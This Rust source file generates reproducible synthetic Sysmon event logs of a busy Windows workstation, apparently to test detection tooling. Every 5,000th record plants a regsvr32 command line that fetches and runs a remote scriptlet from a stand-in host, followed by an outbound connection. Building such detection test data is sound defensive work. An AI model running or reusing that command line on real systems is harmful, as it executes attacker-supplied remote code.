//! From a size to a log of it with a realistic mix of Sysmon events, written chunk by chunk so that
//! memory stays flat however long the log.
//!
//! Of 100 records 2 are process starts, 3 are connections, and the rest image loads, process accesses,
//! files, registry keys and values, and DNS queries, as busy workstations write them. Every 5,000th
//! record is the start of a regsvr32 that the next record connects to the internet, so that there is
//! something to find. The same size gives the same bytes.

use crate::evtx::{CHUNK_SIZE, FileTime, Log, Record, Value};
use crate::sysmon::{
    Connection, Event, Generation, Host, Process, User, network_connection, process_create,
};
use std::io::{self, Seek, Write};

const PROGRAMS: &[&str] = &[
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\RuntimeBroker.exe",
    r"C:\Windows\System32\backgroundTaskHost.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Program Files\Windows Defender\MsMpEng.exe",
    r"C:\Users\alice\AppData\Local\Microsoft\Teams\current\Teams.exe",
];
const LIBRARIES: &[&str] = &[
    "ntdll",
    "kernel32",
    "kernelbase",
    "ucrtbase",
    "combase",
    "rpcrt4",
    "bcryptprimitives",
    "mswsock",
    "amsi",
    "clbcatq",
    "wintrust",
    "urlmon",
];
const USERS: &[User] = &[
    User {
        name: r"NT AUTHORITY\SYSTEM",
        logon: 0x3e7,
        integrity: "System",
    },
    User {
        name: r"NT AUTHORITY\NETWORK SERVICE",
        logon: 0x3e4,
        integrity: "System",
    },
    User {
        name: r"CORP\alice",
        logon: 0x5f3a1,
        integrity: "Medium",
    },
];
const KEYS: &[&str] = &[
    r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters",
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer",
    r"HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Office\16.0\Common",
    r"HKCR\CLSID\{4590f811-1d3a-11d0-891f-00aa004b2e24}\InprocServer32",
];
const REGSVR32: &str = r"C:\Windows\System32\regsvr32.exe";
/// Processes that may act, the newest last.
const ALIVE: usize = 200;

/// Writes a log of about `bytes` bytes and gives the number of its records. A log is never longer
/// than asked for, but has at least one chunk.
///
/// # Errors
/// Where `out` cannot be written.
pub fn generate<W: Write + Seek>(out: W, bytes: u64) -> io::Result<u64> {
    let mut log = Log::create(out)?;
    let mut day = Day::new();
    let mut records = 0;
    loop {
        log.push(&day.record())?;
        records += 1;
        // What stands in the chunk begun last is written out by `finish`.
        if log.size() + 2 * CHUNK_SIZE as u64 > bytes {
            break;
        }
    }
    log.finish()?;
    Ok(records)
}

/// What happens on a host, in order.
struct Day {
    host: Host,
    random: u64,
    clock: FileTime,
    id: u64,
    alive: Vec<Process>,
    attacker: Option<Process>,
}

impl Day {
    fn new() -> Day {
        let mut day = Day {
            host: Host::new("GEN01.corp.example", 0x91d2_44c7),
            random: 0x2026_0302,
            clock: FileTime(134_116_992_000_000_000),
            id: 0,
            alive: Vec::new(),
            attacker: None,
        };
        for _ in 0..20 {
            let process = day.process();
            day.alive.push(process);
        }
        day
    }

    /// SplitMix64, below `n`.
    fn below(&mut self, n: usize) -> usize {
        self.random = self.random.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.random;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((z ^ (z >> 31)) % n as u64) as usize
    }

    fn one_of<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len())]
    }

    fn record(&mut self) -> Record {
        self.id += 1;
        self.clock = self.clock.plus_ms(3 + self.below(40) as u64);
        let event = match (self.id % 5_000, self.below(100)) {
            (0, _) => self.attack(),
            (1, _) if self.attacker.is_some() => self.report(),
            (_, 0..2) => self.start(),
            (_, 2..5) => self.connect(),
            (_, 5..40) => self.load(),
            (_, 40..65) => self.access(),
            (_, 65..75) => self.file(),
            (_, 75..84) => self.registry(12),
            (_, 84..94) => self.registry(13),
            _ => self.query(),
        };
        let late = 5 + self.below(60) as u64;
        self.host
            .record(self.id, self.clock.plus_ms(late), &event.filled())
    }

    fn process(&mut self) -> Process {
        let image = self.one_of(PROGRAMS);
        let number = self.below(1 << 30);
        Process {
            generation: Generation::New,
            start: self.clock,
            token: self.id << 20 | number as u64,
            pid: 4 * (1 + self.below(6_000)) as u32,
            image: image.to_owned(),
            command_line: format!("\"{image}\" -k netsvcs -p --session={number:x} --type=renderer"),
            user: self.one_of(USERS),
            parent_image: self.one_of(PROGRAMS).to_owned(),
            parent_command_line: format!("\"{}\" -Embedding", self.one_of(PROGRAMS)),
        }
    }

    fn start(&mut self) -> Event {
        let process = self.process();
        let event = process_create(&self.host, &process);
        if self.alive.len() >= ALIVE {
            self.alive.remove(0);
        }
        self.alive.push(process);
        event
    }

    fn attack(&mut self) -> Event {
        let mut process = self.process();
        process.image = REGSVR32.to_owned();
        process.command_line = format!(
            "regsvr32 /s /n /u /i:http://cdn.example/{}.sct scrobj.dll",
            self.id
        );
        process.parent_image = r"C:\Windows\System32\cmd.exe".to_owned();
        let event = process_create(&self.host, &process);
        self.attacker = Some(process);
        event
    }

    fn report(&mut self) -> Event {
        let process = self.attacker.take();
        self.connection(process, "93.184.216.34".to_owned())
    }

    fn connect(&mut self) -> Event {
        let (a, b) = (self.below(220), self.below(256));
        self.connection(
            None,
            format!("{}.{b}.{}.{}", 11 + a, self.id % 251, 1 + b % 250),
        )
    }

    fn connection(&mut self, process: Option<Process>, destination: String) -> Event {
        let (port, name) = self.one_of(&[
            (443, "https"),
            (80, "http"),
            (445, "microsoft-ds"),
            (53, "domain"),
            (49_733, ""),
        ]);
        let at = self.below(self.alive.len());
        let connection = Connection {
            at: self.clock,
            transport: self.one_of(&["tcp", "tcp", "udp"]),
            initiated: self.below(4) > 0,
            source: "10.20.0.77".to_owned(),
            source_port: 49_152 + self.below(16_000) as u16,
            source_name: String::new(),
            hostname: format!("host-{}.cdn.example", self.id % 977),
            destination,
            port,
            port_name: name.to_owned(),
        };
        network_connection(
            &self.host,
            process.as_ref().unwrap_or(&self.alive[at]),
            &connection,
        )
    }

    /// An event of some live process with the data that names it.
    fn by_process(&mut self, event: u16) -> Event {
        let at = self.below(self.alive.len());
        let process = &self.alive[at];
        Event::new(Generation::New, event)
            .with("UtcTime", self.clock.to_sysmon())
            .with("ProcessGuid", Value::Guid(process.guid(&self.host)))
            .with("ProcessId", Value::UInt32(process.pid))
            .with("Image", process.image.as_str())
            .with("User", process.user.name)
    }

    fn load(&mut self) -> Event {
        let library = self.one_of(LIBRARIES);
        let random = [self.below(1 << 32), self.below(1 << 32)];
        self.by_process(7)
            .with("ImageLoaded", format!(r"C:\Windows\System32\{library}.dll"))
            .with("FileVersion", "10.0.19041.1288 (WinBuild.160101.0800)")
            .with("Description", "Windows Library")
            .with("Product", "Microsoft® Windows® Operating System")
            .with("Company", "Microsoft Corporation")
            .with("OriginalFileName", format!("{library}.dll"))
            .with(
                "Hashes",
                format!(
                    "MD5={:032X},SHA256={:064X},IMPHASH={:032X}",
                    random[0],
                    random[1],
                    random[0] ^ random[1]
                ),
            )
            .with("Signed", "true")
            .with("Signature", "Microsoft Windows")
            .with("SignatureStatus", "Valid")
    }

    fn access(&mut self) -> Event {
        let (from, to) = (self.below(self.alive.len()), self.below(self.alive.len()));
        let (source, target) = (&self.alive[from], &self.alive[to]);
        let event = Event::new(Generation::New, 10)
            .with("UtcTime", self.clock.to_sysmon())
            .with("SourceProcessGUID", Value::Guid(source.guid(&self.host)))
            .with("SourceProcessId", Value::UInt32(source.pid))
            .with("SourceThreadId", Value::UInt32(source.pid + 16))
            .with("SourceImage", source.image.as_str())
            .with("TargetProcessGUID", Value::Guid(target.guid(&self.host)))
            .with("TargetProcessId", Value::UInt32(target.pid))
            .with("TargetImage", target.image.as_str())
            .with("SourceUser", source.user.name)
            .with("TargetUser", target.user.name);
        let access = self.one_of(&[0x1000, 0x1400, 0x1410, 0x1f_ffff]);
        let at = self.below(1 << 16);
        let trace = format!(
            r"C:\Windows\SYSTEM32\ntdll.dll+9d1e4|C:\Windows\System32\KERNELBASE.dll+2c0fe|C:\Windows\System32\wbem\cimwin32.dll+{at:x}"
        );
        event
            .with("GrantedAccess", Value::Hex32(access))
            .with("CallTrace", trace)
    }

    fn file(&mut self) -> Event {
        let number = self.below(1 << 24);
        let created = self.clock.minus_ms(number as u64).to_sysmon();
        self.by_process(11)
            .with(
                "TargetFilename",
                format!(r"C:\Users\alice\AppData\Local\Temp\~df{number:06x}.tmp"),
            )
            .with("CreationUtcTime", created)
    }

    fn registry(&mut self, event: u16) -> Event {
        let (key, number) = (self.one_of(KEYS), self.below(4_000));
        let kind = if event == 12 { "CreateKey" } else { "SetValue" };
        self.by_process(event)
            .with("EventType", kind)
            .with("TargetObject", format!(r"{key}\Item{number}"))
            .with("Details", format!("DWORD (0x{number:08x})"))
    }

    fn query(&mut self) -> Event {
        let number = self.below(30_000);
        self.by_process(22)
            .with("QueryName", format!("edge-{number}.cdn.example"))
            .with("QueryStatus", "0")
            .with(
                "QueryResults",
                format!("::ffff:93.184.{}.{};", number % 256, number % 251),
            )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Cursor;

    #[test]
    fn a_log_has_its_size_and_repeats_itself() {
        let mut one = Cursor::new(Vec::new());
        let records = generate(&mut one, 1 << 20).unwrap();
        let mut two = Cursor::new(Vec::new());
        assert_eq!(generate(&mut two, 1 << 20).unwrap(), records);
        assert_eq!(one.get_ref(), two.get_ref());
        assert_eq!(one.get_ref().len(), 4096 + 15 * 65_536);
        assert!(records > 700, "{records}");
    }
}
